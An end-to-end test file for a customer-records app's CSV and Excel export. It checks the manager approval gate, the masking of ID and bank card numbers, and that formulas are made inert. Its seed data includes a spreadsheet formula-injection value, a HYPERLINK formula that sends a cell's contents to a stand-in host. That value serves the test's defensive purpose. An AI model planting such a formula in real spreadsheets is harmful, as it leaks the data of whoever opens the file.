import fs from 'node:fs';
import path from 'node:path';
import * as XLSX from '@e965/xlsx';
import { afterEach, expect, it } from 'vitest';
import { describeKeychain } from '../support/keyring';
import { tempDir } from '../support/tmp';
import { approvalsOff } from './approval-policy';
import { launchApp, signIn, type TestApp } from './harness';
import { ok, seedVault } from './seed';

const OWNER = { username: 'boss', displayName: 'Boss', password: 'Lantern-Harbor-42' };
const MANAGER = { username: 'mia', displayName: 'Mia 王', password: 'Silver-Maple-58' };

async function seedExportVault(profileDir: string): Promise<void> {
  await seedVault(profileDir, OWNER, async (router) => {
    // Adding a manager needs approval by default; this file is about the export itself.
    await approvalsOff(router, 'seed', ['users.create']);
    await ok(router, 'seed', 'users.create', { ...MANAGER, role: 'manager' });
    await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip' });
    await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'vip' });
    await ok(router, 'seed', 'customers.create', { name: 'Acme Tea', level: 'regular' });
  });
}

/** The export dialog's save answers: a path in a fresh folder, remembered. */
function savingTo(folder: string, saved: string[]) {
  return {
    pickSaveFile: async (name: string) => {
      const file = path.join(folder, name);
      saved.push(file);
      return file;
    },
  };
}

let app: TestApp | undefined;
afterEach(async () => {
  await app?.close();
  app = undefined;
});

describeKeychain('exporting customers, in Chromium', () => {
  it('the owner exports this view as CSV from the dialog; main writes it; the manager\'s export asks for approval first', async () => {
    const profileDir = tempDir('coffer-e2e-export-');
    const folder = tempDir('coffer-e2e-export-out-');
    await seedExportVault(profileDir);
    const saved: string[] = [];
    app = await launchApp({ profileDir, core: savingTo(folder, saved) });
    const { page } = app;
    await signIn(app, OWNER);
    await page.getByRole('button', { name: 'Customers' }).click();
    await page.getByTestId('customers-table').waitFor();
    await page.getByRole('group', { name: 'Filters' }).getByLabel('Level').selectOption('vip');
    await expect.poll(() => page.getByTestId('customer-row').count()).toBe(2);

    await page.getByTestId('export-open').click();
    const dialog = page.getByTestId('export-dialog');
    await dialog.getByLabel('CSV (.csv)').check();
    await dialog.getByLabel('GBK (older Excel on Chinese Windows)').waitFor();
    await dialog.getByRole('button', { name: 'Choose where to save…' }).click();
    await expect.poll(() => page.getByTestId('export-result').textContent()).toContain('Exported 2 customers.');
    expect(saved).toHaveLength(1);
    const csv = fs.readFileSync(saved[0]!).toString('utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('王伟');
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
    expect(csv).not.toContain('Acme Tea');

    // Cancelling the dialog asks main nothing.
    await page.getByTestId('export-open').click();
    await page.getByTestId('export-dialog').getByRole('button', { name: 'Cancel' }).click();
    expect(saved).toHaveLength(1);

    await page.getByTestId('signed-in-as').click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await signIn(app, MANAGER);
    await page.getByRole('button', { name: 'Customers' }).click();
    await page.getByTestId('customers-table').waitFor();
    // A manager's grant is 'approval': the export is offered, and asks for a second person before anything is written.
    await page.getByTestId('export-open').click();
    await page.getByTestId('export-dialog').getByRole('button', { name: 'Choose where to save…' }).click();
    const approval = page.getByTestId('approval-dialog');
    await approval.getByText("This needs a second person’s approval").waitFor();
    await approval.getByRole('button', { name: 'Cancel' }).click();
    await approval.waitFor({ state: 'detached' });
    expect(saved).toHaveLength(1);
  });

  it('zh-CN: the owner exports .xlsx; read back with SheetJS: a cover sheet, Chinese level words, local times, ID and bank card masked, formulas inert', async () => {
    const profileDir = tempDir('coffer-e2e-export-');
    const folder = tempDir('coffer-e2e-export-out-');
    await seedVault(profileDir, OWNER, async (router) => {
      // Every customer, on a one-owner vault: the approval path is approvals.e2e.ts's; here the file itself.
      await approvalsOff(router, 'seed', ['customers.export']);
      await ok(router, 'seed', 'settings.setCustomerFields', { optionalFields: true });
      await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip', idNumber: '11010519491231002X', bankCard: '6222020200112233445' });
      await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'prospect' });
      await ok(router, 'seed', 'customers.create', { name: '李娜', level: 'regular', notes: '440301198512250018' });
    });
    const saved: string[] = [];
    app = await launchApp({ profileDir, core: savingTo(folder, saved) });
    const { page } = app;
    await signIn(app, OWNER);
    await page.getByTestId('language-switch').selectOption('zh-CN');
    await page.getByRole('button', { name: '客户' }).click();
    await page.getByTestId('customers-table').waitFor();
    await expect.poll(() => page.getByTestId('customer-row').count()).toBe(3);

    await page.getByTestId('export-open').click();
    const dialog = page.getByTestId('export-dialog');
    await dialog.getByLabel('Excel 工作簿（.xlsx）').check();
    for (const column of ['身份证号', '银行卡号', '备注', '更新时间']) await dialog.getByLabel(column, { exact: true }).check();
    await dialog.getByRole('button', { name: '选择保存位置…' }).click();
    await expect.poll(() => page.getByTestId('export-result').textContent()).toContain('已导出 3 位客户。');
    expect(await page.getByTestId('export-result').textContent()).toContain('已脱敏：身份证号, 银行卡号');
    expect(saved).toHaveLength(1);
    expect(saved[0]).toMatch(/\.xlsx$/);

    const bytes = fs.readFileSync(saved[0]!);
    const book = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
    expect(book.SheetNames).toEqual(['Export 导出说明', 'Customers 客户']);
    const cover = XLSX.utils.sheet_to_json<string[]>(book.Sheets['Export 导出说明']!, { header: 1 });
    expect(cover).toContainEqual(['导出人 Exported by', `${OWNER.username} (owner)`]);
    expect(cover).toContainEqual(['行数 Rows', '3']);
    expect(cover).toContainEqual(['已遮盖的列 Masked columns', 'idNumber, bankCard']);
    const sheet = book.Sheets['Customers 客户']!;
    for (const [address, cell] of Object.entries(sheet)) if (!address.startsWith('!')) expect((cell as XLSX.CellObject).f, address).toBeUndefined();
    const rows = XLSX.utils.sheet_to_json<Record<string, string>>(sheet, { raw: true, defval: '' });
    const byName = Object.fromEntries(rows.map((r) => [r.name, r]));
    expect(byName['王伟']).toMatchObject({ level: 'VIP', mobile: '13912345678', idNumber: '110***********002X', bankCard: '**** **** **** 3445' });
    expect(byName['李娜']).toMatchObject({ level: '普通', notes: '440301198512250018' });
    expect(byName[`'=HYPERLINK("http://x.example/?"&A1)`]).toMatchObject({ level: '潜在客户' });
    for (const row of rows) expect(row.createdAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    // No full ID number or bank card anywhere in the file's bytes, decompressed.
    const text = XLSX.CFB.read(bytes, { type: 'buffer' }).FileIndex.map((e: { content?: unknown }) => (e.content ? Buffer.from(e.content as Uint8Array).toString('utf8') : '')).join('\n');
    expect(text).not.toContain('11010519491231002X');
    expect(text).not.toContain('6222020200112233445');
  });
});
